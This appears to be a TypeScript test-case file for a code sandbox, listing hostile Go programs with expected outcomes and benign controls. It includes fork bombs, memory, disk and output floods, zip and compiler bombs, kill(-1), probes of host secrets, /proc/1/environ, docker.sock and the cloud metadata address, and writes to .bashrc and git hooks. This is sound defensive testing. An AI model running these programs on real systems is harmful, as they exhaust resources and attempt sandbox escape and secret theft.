import type { Control, HostileCase, ProgramCase } from "../types.js";

const MEBIBYTE = 1024 * 1024;

type Rest = Omit<ProgramCase, "kind" | "drivers" | "language" | "name" | "numbers" | "program">;

function main(imports: string, body: string): string {
  const lines = imports.split(" ").map((name) => `\t"${name}"`);
  return `package main\n\nimport (\n${lines.join("\n")}\n)\n\nfunc main() {\n${body}\n}\n`;
}

function go(numbers: readonly number[], name: string, program: string, rest: Rest): ProgramCase {
  return { kind: "program", drivers: ["namespace"], language: "go", numbers, name, program, ...rest };
}

/** Runs each attempt in a process of its own, since a system call may be refused by killing its caller. */
function attempts(
  numbers: readonly number[],
  name: string,
  imports: string,
  list: string,
  control: Control,
): ProgramCase {
  const names = ["fmt", "os", "os/exec", "strconv", ...imports.split(" ").filter(Boolean)];
  const program = `package main

import (
${names.map((one) => `\t"${one}"`).join("\n")}
)

type attempt struct {
	number int
	action func() error
}

func call(number uintptr, arguments ...uintptr) error {
	var a [6]uintptr
	copy(a[:], arguments)
	if _, _, errno := syscall.Syscall6(number, a[0], a[1], a[2], a[3], a[4], a[5]); errno != 0 {
		return errno
	}
	return nil
}

func opened(path string, flags int) error {
	file, err := os.OpenFile(path, flags, 0o600)
	if err == nil {
		file.Close()
	}
	return err
}

var attempts = []attempt{
${list}
}

func main() {
	if len(os.Args) > 2 {
		index, _ := strconv.Atoi(os.Args[2])
		if err := attempts[index].action(); err != nil {
			fmt.Println(attempts[index].number, "refused")
		} else {
			fmt.Println(attempts[index].number, "reached", index)
		}
		return
	}
	for index, one := range attempts {
		command := exec.Command("/proc/self/exe", os.Args[1], strconv.Itoa(index))
		output, err := command.Output()
		if len(output) > 0 {
			fmt.Print(string(output))
		} else if command.ProcessState != nil && command.ProcessState.ExitCode() < 0 {
			fmt.Println(one.number, "refused")
		} else {
			fmt.Println(one.number, "broken", err)
		}
	}
}
`;
  return go(numbers, name, program, { ends: ["exited", "policy"], attempts: true, control });
}

const WORKS: Control = {
  program: main("fmt time", 'time.Sleep(100 * time.Millisecond)\n\tfmt.Println("done")'),
  prints: "done",
};
const OWN_FOLDER: Control = {
  program: main(
    "fmt os",
    'os.WriteFile("a", []byte("mine"), 0o644)\n\tgot, _ := os.ReadFile("/work/a")\n\tfmt.Println(string(got))',
  ),
  prints: "mine",
};
const SOME_CHILDREN: Control = {
  program: main(
    "fmt os/exec",
    'got, err := exec.Command("echo", "child").Output()\n\tfmt.Print(string(got))\n\tif err != nil {\n\t\tpanic(err)\n\t}',
  ),
  prints: "child",
};
const SYSTEM_CALLS: Control = {
  program: main("fmt syscall", "fmt.Println(syscall.Getpid() > 0, syscall.Getuid() > 0)"),
  prints: "true true",
};
// The wall time covers the build.
const LOOPS: Rest = {
  ends: ["wall-time"],
  limits: { wallMs: 6000 },
  waits: true,
  reports: "on",
  control: WORKS,
};

/** Go programs. */
export const GO_CASES: readonly HostileCase[] = [
  go(
    [1, 3],
    "busy loop that ignores signals",
    main("fmt os/signal", 'signal.Ignore()\n\tfmt.Println("on")\n\tfor {\n\t}'),
    LOOPS,
  ),
  go([2], "sleeps for ever", main("fmt time", 'fmt.Println("on")\n\ttime.Sleep(1 << 60)'), LOOPS),
  go(
    [4, 5, 6],
    "children that burn and outlive",
    main(
      "fmt os os/exec syscall time",
      `if len(os.Args) > 2 {
		for end := time.Now().Add(time.Hour); time.Now().Before(end); {
		}
	}
	for i := 0; i < 3; i++ {
		child := exec.Command("/proc/self/exe", os.Args[1], "child")
		child.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := child.Start(); err != nil {
			panic(err)
		}
	}
	fmt.Println("parent")`,
    ),
    { ends: ["exited"], prints: "parent", control: SOME_CHILDREN },
  ),
  go(
    [7],
    "compiler bomb: a constant that doubles",
    `package main\n\nimport "fmt"\n\nconst s0 = "xxxxxxxxxxxxxxxx"\n${Array.from({ length: 40 }, (_, i) => `const s${i + 1} = s${i} + s${i}`).join("\n")}\n\nfunc main() {\n\tfmt.Println(len(s40))\n}\n`,
    { ends: ["memory", "wall-time", "invalid"], limits: { wallMs: 10_000 }, control: WORKS },
  ),
  go(
    [10, 16],
    "touched allocation",
    main(
      "fmt syscall",
      'fmt.Println("on")\n\tfor {\n\t\tblock, err := syscall.Mmap(-1, 0, 1<<24, 3, 0x22)\n\t\tif err != nil {\n\t\t\tpanic(err)\n\t\t}\n\t\tfor i := range block {\n\t\t\tblock[i] = 1\n\t\t}\n\t}',
    ),
    { ends: ["memory"], reports: "on", control: WORKS },
  ),
  go(
    [11],
    "memory split over children",
    main(
      "fmt os os/exec time",
      `if len(os.Args) > 2 {
		block := make([]byte, 80<<20)
		for i := range block {
			block[i] = 1
		}
		time.Sleep(4 * time.Second)
		fmt.Println(block[0])
		return
	}
	fmt.Println("on")
	var children []*exec.Cmd
	for i := 0; i < 6; i++ {
		child := exec.Command("/proc/self/exe", os.Args[1], "child")
		child.Start()
		children = append(children, child)
	}
	for _, child := range children {
		if child.Wait() != nil {
			defer os.Exit(1)
		}
	}`,
    ),
    { ends: ["memory"], reports: "on", waits: true, control: SOME_CHILDREN },
  ),
  go(
    [12],
    "hoards in /dev/shm and /tmp",
    main(
      "fmt os",
      `for _, folder := range []string{"/dev/shm", "/tmp"} {
		file, _ := os.Create(folder + "/x")
		block := make([]byte, 1<<20)
		n := 0
		for ; n < 400; n++ {
			if _, err := file.Write(block); err != nil {
				break
			}
		}
		os.Remove(folder + "/x")
		fmt.Println(n < 400)
	}`,
    ),
    {
      ends: ["exited", "disk"],
      limits: { memoryBytes: 1024 * MEBIBYTE },
      prints: "true\ntrue",
      control: OWN_FOLDER,
    },
  ),
  go(
    [13],
    "infinite recursion",
    'package main\n\nimport "fmt"\n\nfunc f(n int) int {\n\tvar block [1024]int\n\tblock[n%1024] = n\n\treturn f(n+1) + block[0]\n}\n\nfunc main() {\n\tfmt.Println("on")\n\tfmt.Println(f(0))\n}\n',
    { ends: ["exited", "memory"], prints: "on", control: WORKS },
  ),
  go(
    [15],
    "JSON amplification",
    main(
      "encoding/json fmt strings",
      'fmt.Println("on")\n\ttext := "[" + strings.Repeat("[],", 400000) + "[]]"\n\tvar kept []any\n\tfor {\n\t\tvar got any\n\t\tif err := json.Unmarshal([]byte(text), &got); err != nil {\n\t\t\tpanic(err)\n\t\t}\n\t\tkept = append(kept, got)\n\t}',
    ),
    { ends: ["memory"], reports: "on", control: WORKS },
  ),
  go(
    [17],
    "a source nested too deeply",
    `package main\n\nfunc main() {\n\tprintln(${"(".repeat(400_000)}1${")".repeat(400_000)})\n}\n`,
    { ends: ["invalid", "memory", "wall-time"], control: WORKS },
  ),
  go(
    [19],
    "fork bomb",
    main(
      "fmt os os/exec",
      'if len(os.Args) == 2 {\n\t\tfmt.Println("on")\n\t}\n\tfor {\n\t\texec.Command("/proc/self/exe", os.Args[1], "child").Start()\n\t}',
    ),
    {
      ends: ["processes", "wall-time", "memory"],
      limits: { wallMs: 6000 },
      reports: "on",
      control: SOME_CHILDREN,
    },
  ),
  go(
    [20, 21, 22],
    "threads, zombies, descriptors",
    main(
      "fmt os os/exec runtime/debug syscall",
      `var zombies int
	for ; zombies < 2000; zombies++ {
		if exec.Command("/bin/true").Start() != nil {
			break
		}
	}
	if zombies < 2000 {
		fmt.Println(21, "refused")
	} else {
		fmt.Println(21, "reached")
	}
	var kept int
	for ; kept < 5000; kept++ {
		if _, err := syscall.Dup(0); err != nil {
			break
		}
	}
	if kept < 1100 {
		fmt.Println(22, "refused")
	} else {
		fmt.Println(22, "reached")
	}
	debug.SetMaxThreads(100000)
	// A thread that cannot be had ends a Go program.
	fmt.Println(20, "refused")
	for i := 0; i < 5000; i++ {
		go syscall.Pause()
	}
	go func() {
		syscall.Nanosleep(&syscall.Timespec{Sec: 2}, nil)
		fmt.Println(20, "reached")
		os.Exit(0)
	}()
	select {}`,
    ),
    // Go says of each goroutine where it stood.
    { ends: ["exited", "processes"], limits: { outputBytes: 4 * MEBIBYTE }, attempts: true, control: WORKS },
  ),
  go(
    [23],
    "kill(-1)",
    main(
      "fmt syscall",
      'fmt.Println("on")\n\tsyscall.Kill(-1, syscall.SIGKILL)\n\tsyscall.Kill(@PROCESS@, syscall.SIGKILL)',
    ),
    { ends: ["exited", "signal"], reports: "on", control: WORKS },
  ),
  go(
    [25],
    "large files",
    main(
      "os strconv",
      'block := make([]byte, 1<<20)\n\tfor i := 0; i < 20; i++ {\n\t\tfile, _ := os.Create("large" + strconv.Itoa(i))\n\t\tfor n := 0; n < 100; n++ {\n\t\t\tif _, err := file.Write(block); err != nil {\n\t\t\t\tpanic(err)\n\t\t\t}\n\t\t}\n\t}',
    ),
    { ends: ["disk"], limits: { memoryBytes: 1024 * MEBIBYTE }, control: OWN_FOLDER },
  ),
  go(
    [26, 28],
    "inodes and deep folders",
    main(
      "fmt os",
      'for i := 0; i < 1000000; i++ {\n\t\tfile, err := os.Create(fmt.Sprint("f", i))\n\t\tif err != nil {\n\t\t\tbreak\n\t\t}\n\t\tfile.Close()\n\t\tif i%100 == 0 {\n\t\t\tos.Mkdir("d", 0o700)\n\t\t\tos.Chdir("d")\n\t\t}\n\t}',
    ),
    { ends: ["exited", "disk", "memory", "wall-time"], limits: { wallMs: 6000 }, control: OWN_FOLDER },
  ),
  go(
    [29],
    "zip bomb",
    main(
      "bytes compress/gzip fmt io",
      "var packed bytes.Buffer\n\twriter := gzip.NewWriter(&packed)\n\tfor i := 0; i < 400; i++ {\n\t\twriter.Write(make([]byte, 1<<20))\n\t}\n\twriter.Close()\n\tfmt.Println(packed.Len() < 1<<20)\n\treader, _ := gzip.NewReader(&packed)\n\tgot, _ := io.ReadAll(reader)\n\tfmt.Println(len(got))",
    ),
    { ends: ["memory"], prints: "true", control: WORKS },
  ),
  go(
    [30],
    "leftovers of one run seen by the next",
    main(
      "fmt os",
      'for _, path := range []string{"/work/left", "/tmp/left", "/dev/shm/left"} {\n\t\tif _, err := os.Stat(path); err == nil {\n\t\t\tfmt.Println(path)\n\t\t}\n\t}',
    ),
    {
      before: main(
        "os",
        'for _, path := range []string{"/work/left", "/tmp/left", "/dev/shm/left"} {\n\t\tos.WriteFile(path, nil, 0o644)\n\t}',
      ),
      ends: ["exited"],
      prints: "",
      control: OWN_FOLDER,
    },
  ),
  go(
    [31, 35],
    "endless stdout on one line",
    main("fmt strings", 'for {\n\t\tfmt.Print(strings.Repeat("y", 999))\n\t}'),
    { ends: ["output"], control: WORKS },
  ),
  go(
    [32],
    "stderr flood",
    main("fmt os strings", 'for {\n\t\tfmt.Fprint(os.Stderr, strings.Repeat("y", 999))\n\t}'),
    {
      ends: ["output"],
      control: WORKS,
    },
  ),
  go(
    [33, 34, 37],
    "invalid UTF-8, a split code point, NUL, terminal escapes",
    main(
      "os time",
      'os.Stdout.Write([]byte{0xc3})\n\ttime.Sleep(50 * time.Millisecond)\n\tos.Stdout.Write([]byte("\\xa9|\\xff|\\x00|\\x1b[31m"))',
    ),
    { ends: ["exited"], prints: "é|\ufffd|\0|\u001b[31m", control: WORKS },
  ),
  go(
    [36],
    "closes its streams and goes on",
    main(
      "os syscall",
      'os.Stdout.WriteString("on\\n")\n\tfor i := 0; i < 100; i++ {\n\t\tsyscall.Close(i)\n\t}\n\tfor {\n\t}',
    ),
    LOOPS,
  ),
  attempts(
    [27, 38, 40, 44, 46, 57, 58, 60, 91, 93, 95],
    "files, descriptors and variables of the host",
    "bytes errors net strings syscall",
    `	{38, func() error { os.Symlink("@SECRET@", "link"); return opened("link", os.O_RDONLY) }},
	{38, func() error { return os.WriteFile("link", []byte("changed"), 0) }},
	{40, func() error { return os.Link("@SECRET@", "hard") }},
	{44, func() error { return opened("/proc/self/root@SECRET@", os.O_RDONLY) }},
	{44, func() error { return opened("/proc/1/root@SECRET@", os.O_RDONLY) }},
	{44, func() error {
		got, err := os.ReadFile("/proc/1/environ")
		if err == nil && !bytes.Contains(got, []byte("AGENTOS_PLANTED")) {
			err = errors.New("nothing of the host")
		}
		return err
	}},
	{46, func() error { return os.WriteFile("@FOLDER@/.git/hooks/post-checkout", nil, 0o755) }},
	{46, func() error { return os.WriteFile("/root/.bashrc", nil, 0o755) }},
	{46, func() error { return os.WriteFile("/etc/profile.d/x.sh", nil, 0o755) }},
	{57, func() error { _, err := os.ReadDir("/sys/fs/cgroup"); return err }},
	{58, func() error { _, err := net.Dial("unix", "/var/run/docker.sock"); return err }},
	{58, func() error { _, err := net.Dial("unix", "@SOCKET@"); return err }},
	{60, func() error {
		for descriptor := 3; descriptor < 100; descriptor++ {
			target, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(descriptor))
			if err == nil && strings.HasPrefix(target, "/") && !strings.HasPrefix(target, "/proc/") && !strings.HasPrefix(target, "/dev/null") {
				return nil
			}
		}
		return errors.New("none")
	}},
	{91, func() error {
		for _, pair := range os.Environ() {
			if strings.Contains(pair, "PLANTED") || strings.Contains(strings.ToLower(pair), "_proxy") {
				return nil
			}
		}
		return errors.New("none")
	}},
	// Only opened, never written.
	{93, func() error { return opened("/proc/sys/kernel/core_pattern", os.O_WRONLY) }},
	{93, func() error { return opened("/proc/sys/vm/overcommit_memory", os.O_WRONLY) }},
	{95, func() error { return os.WriteFile("/gocache/00/planted", nil, 0o644) }},
	{95, func() error { return os.WriteFile("/usr/lib/go/planted", nil, 0o644) }},
	{27, func() error { os.WriteFile("sparse", nil, 0o644); return os.Truncate("sparse", 1<<40) }},`,
    OWN_FOLDER,
  ),
  attempts(
    [43, 47, 48, 49, 50, 51, 52, 53, 54, 56, 92],
    "privileges and the kernel",
    "errors runtime syscall unsafe",
    `	{43, func() error { return syscall.Mknod("device", 0o666|syscall.S_IFBLK, 8<<8) }},
	{47, func() error { return syscall.Setuid(0) }},
	{47, func() error {
		data, _ := os.ReadFile("/usr/bin/id")
		os.WriteFile("id", data, 0o755)
		os.Chmod("id", 0o755|os.ModeSetuid|os.ModeSetgid)
		who, err := exec.Command("./id", "-u").Output()
		if err == nil && string(who) == fmt.Sprintln(os.Getuid()) {
			err = errors.New("the same user")
		}
		return err
	}},
	// PTRACE_SEIZE, which does not stop what it takes.
	{48, func() error { return call(syscall.SYS_PTRACE, 0x4206, 1) }},
	{48, func() error { return call(syscall.SYS_PTRACE, 0) }},
	{49, func() error { return syscall.Unshare(syscall.CLONE_NEWUSER) }},
	{49, func() error { return syscall.Unshare(syscall.CLONE_NEWNS) }},
	{50, func() error { return syscall.Mount("none", "/tmp", "tmpfs", 0, "") }},
	{50, func() error { return syscall.Unmount("/proc", 2) }},
	{51, func() error { return call(syscall.SYS_KEYCTL, 0, ^uintptr(2), 1) }},
	{52, func() error { var params [256]byte; return call(425, 4, uintptr(unsafe.Pointer(&params[0]))) }},
	{53, func() error { _, err := syscall.Socket(40, syscall.SOCK_STREAM, 0); return err }},
	{54, func() error {
		if runtime.GOARCH != "amd64" {
			return errors.New("no such table")
		}
		return call(0x40000000 + 39)
	}},
	// Would only turn ctrl-alt-del off.
	{56, func() error { return syscall.Reboot(0) }},
	{92, func() error { var key byte = 'x'; return call(syscall.SYS_IOCTL, 0, 0x5412, uintptr(unsafe.Pointer(&key))) }},
	{92, func() error { return opened("/dev/tty", os.O_RDWR) }},`,
    SYSTEM_CALLS,
  ),
  attempts(
    [61, 62, 63, 64, 65, 66, 69],
    "the network",
    "net syscall time",
    `	{61, func() error { _, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, 1); return err }},
	{61, func() error { _, err := net.DialTimeout("tcp", "1.1.1.1:53", 2*time.Second); return err }},
	{62, func() error { _, err := net.LookupHost("planted-secret.example.org"); return err }},
	{63, func() error { return exec.Command("bash", "-c", "echo > /dev/tcp/127.0.0.1/@PORT@").Run() }},
	{64, func() error { _, err := net.DialTimeout("tcp", "169.254.169.254:80", 2*time.Second); return err }},
	{65, func() error { _, err := net.DialTimeout("tcp", "127.0.0.1:@PORT@", 2*time.Second); return err }},
	{66, func() error { _, err := net.Dial("unix", "@@ABSTRACT@"); return err }},
	{69, func() error { os.Clearenv(); _, err := net.DialTimeout("tcp", "localhost:@PORT@", 2*time.Second); return err }},`,
    {
      program: main(
        "fmt net",
        'server, err := net.Listen("tcp", "127.0.0.1:0")\n\tif err != nil {\n\t\tpanic(err)\n\t}\n\t_, err = net.Dial("tcp", server.Addr().String())\n\tfmt.Println(err)',
      ),
      prints: "<nil>",
    },
  ),
];
